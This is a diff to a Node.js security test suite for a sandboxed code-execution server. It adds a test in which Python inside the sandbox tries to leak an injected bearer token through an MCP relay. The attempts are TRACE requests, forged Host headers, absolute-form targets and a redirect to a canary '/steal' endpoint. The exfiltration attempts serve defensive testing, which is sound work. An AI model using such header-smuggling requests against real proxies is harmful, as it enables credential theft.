@@ -9,15 +9,20 @@
 //     /tmp, /workspace, /run/mcp and /etc; looks for a private key next to the session CA;
 //   - inside an intercepted tunnel, names the canary in Host, or sends an absolute-form target;
 //   - follows the upstream's redirect to the canary;
-//   - calls the impostor.
+//   - calls the impostor;
+//   - through the MCP relay to an allowlisted MCP server with the same token (plain HTTP on
+//     loopback): sends TRACE (whose answer would echo the token), a Host naming the canary, an
+//     absolute-form target naming it, and asks for a redirect to it.
 // Must hold: the token is found nowhere in the sandbox; the api upstream sees it on every request
-// and with its own Host; the canary sees no request; the impostor sees no HTTP request at all
+// and with its own Host (as does the MCP server, which never sees TRACE); the canary sees no
+// request; the impostor sees no HTTP request at all
 // (the sidecar refuses its certificate before sending a byte of the request); no log, audit line
 // or stat holds the token; nothing is left behind.
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import crypto from 'node:crypto';
 import fs from 'node:fs';
+import http from 'node:http';
 import https from 'node:https';
 import os from 'node:os';
 import path from 'node:path';
@@ -53,10 +58,35 @@ async function startRecorder(tls, redirectTo = () => '') {
   };
 }
 
-async function runPython(client, code) {
+// The same over plain HTTP: an MCP server the relay reaches on loopback.
+async function startPlainRecorder(redirectTo) {
+  const seen = [];
+  const server = http.createServer((req, res) => {
+    seen.push({ authorization: req.headers.authorization ?? null, host: req.headers.host,
+      url: req.url, method: req.method });
+    req.resume();
+    if (req.url === '/mcp/redirect') {
+      res.writeHead(302, { Location: redirectTo(), 'Content-Length': '0' });
+      res.end();
+      return;
+    }
+    res.writeHead(200, { 'Content-Type': 'application/json' });
+    res.end(JSON.stringify({ got_authorization: Boolean(req.headers.authorization) }));
+  });
+  await new Promise((resolve) => server.listen({ host: '127.0.0.1', port: 0 }, resolve));
+  return {
+    seen,
+    port: server.address().port,
+    close: () => new Promise((resolve) => { server.closeAllConnections(); server.close(resolve); }),
+  };
+}
+
+async function runPython(client, code, extra = {}) {
   const res = await client.callTool({
     name: 'run_code',
-    arguments: { code, egress: true, environment: { NO_PROXY: '', no_proxy: '' }, timeout: 120 },
+    arguments: {
+      code, egress: true, environment: { NO_PROXY: '', no_proxy: '' }, timeout: 120, ...extra,
+    },
   });
   assert.ok(!res.isError, res.content?.[0]?.text);
   const sc = res.structuredContent;
@@ -68,6 +98,7 @@ describe('egress secrets under attack', () => {
   let api;
   let impostor;
   let canary;
+  let mcpServer;
   let server;
   let client;
   let dir;
@@ -83,6 +114,7 @@ describe('egress secrets under attack', () => {
     canary = await startRecorder(trusted);
     api = await startRecorder(trusted, () => `https://127.0.0.1:${canary.port}/steal`);
     impostor = await startRecorder(untrusted);
+    mcpServer = await startPlainRecorder(() => `https://127.0.0.1:${canary.port}/steal`);
     const tokenFile = path.join(dir, 'token');
     fs.writeFileSync(tokenFile, `${token}\n`, { mode: 0o600 });
     const secret = { Authorization: { file: tokenFile, prefix: 'Bearer ' } };
@@ -94,11 +126,16 @@ describe('egress secrets under attack', () => {
         secrets: [
           { host: '127.0.0.1', port: api.port, headers: secret },
           { host: '127.0.0.1', port: impostor.port, headers: secret },
+          { host: '127.0.0.1', port: mcpServer.port, headers: secret },
         ],
         upstream_ca_file: trusted.caFile,
       },
       // The sanitizer build's allocator keeps freed memory in quarantine (see e2e_egress).
-      mcp: { sidecar: { memory_mib: 256 }, audit_log: path.join(dir, 'audit.jsonl') },
+      mcp: {
+        allowlist: [`http://127.0.0.1:${mcpServer.port}/mcp`],
+        sidecar: { memory_mib: 256 },
+        audit_log: path.join(dir, 'audit.jsonl'),
+      },
     }));
     server = await startHttpServer(['--config', config]);
     ({ client } = await connectHttp(server.url));
@@ -109,6 +146,7 @@ describe('egress secrets under attack', () => {
     await api?.close();
     await impostor?.close();
     await canary?.close();
+    await mcpServer?.close();
     fs.rmSync(dir, { recursive: true, force: true });
   });
 
@@ -241,6 +279,49 @@ print(json.dumps(results))
     }
     assert.deepEqual(canary.seen, [], 'the canary got a request');
     assert.deepEqual(impostor.seen, [], 'the impostor got a request (and so the token)');
+  });
+
+  test('through the MCP relay: TRACE, a foreign Host, another target and a redirect carry nothing out', async () => {
+    const { out } = await runPython(client, `
+import json, os, socket
+def relay(request):
+    s = socket.socket(socket.AF_UNIX)
+    s.settimeout(20)
+    s.connect(os.environ["MCP_PROXY_SOCKET"])
+    s.sendall(request.encode())
+    answer = b""
+    while True:
+        chunk = s.recv(65536)
+        if not chunk:
+            break
+        answer += chunk
+    s.close()
+    head, _, body = answer.partition(b"\\r\\n\\r\\n")
+    return {"status": head.split(b"\\r\\n", 1)[0].decode(), "body": body.decode(errors="replace")}
+mcp = "http://127.0.0.1:${mcpServer.port}"
+results = {
+    "plain": relay(f"POST {mcp}/mcp HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{{}}"),
+    "trace": relay(f"TRACE {mcp}/mcp HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nConnection: close\\r\\n\\r\\n"),
+    "foreign_host": relay(f"GET /mcp HTTP/1.1\\r\\nHost: 127.0.0.1:${canary.port}\\r\\nConnection: close\\r\\n\\r\\n"),
+    "other_target": relay(f"GET http://127.0.0.1:${canary.port}/mcp HTTP/1.1\\r\\nHost: 127.0.0.1:${mcpServer.port}\\r\\nConnection: close\\r\\n\\r\\n"),
+    "redirect": relay(f"GET {mcp}/mcp/redirect HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nConnection: close\\r\\n\\r\\n"),
+}
+print(json.dumps(results))
+`, { mcp_allowlist: [`http://127.0.0.1:${mcpServer.port}/mcp`] });
+    assert.match(out.plain.status, / 200 /, JSON.stringify(out.plain));
+    assert.match(out.trace.status, / 403 /, JSON.stringify(out.trace));
+    assert.match(out.trace.body, /would echo/);
+    // Origin-form with a Host naming the canary: the relay goes by the Host, which no rule allows.
+    assert.match(out.foreign_host.status, / 403 /, JSON.stringify(out.foreign_host));
+    assert.match(out.other_target.status, / 403 /, JSON.stringify(out.other_target));
+    assert.match(out.redirect.status, / 302 /, 'the relay passes a redirect back, never follows it');
+    for (const result of Object.values(out)) assert.ok(!result.body.includes(token), 'an answer holds the token');
+    assert.deepEqual(mcpServer.seen.map((r) => `${r.method} ${r.url}`), ['POST /mcp', 'GET /mcp/redirect']);
+    for (const request of mcpServer.seen) {
+      assert.equal(request.authorization, `Bearer ${token}`);
+      assert.equal(request.host, `127.0.0.1:${mcpServer.port}`);
+    }
+    assert.deepEqual(canary.seen, [], 'the canary got a request');
   });
 
   test('no log holds the token, and the server left nothing behind', async () => {
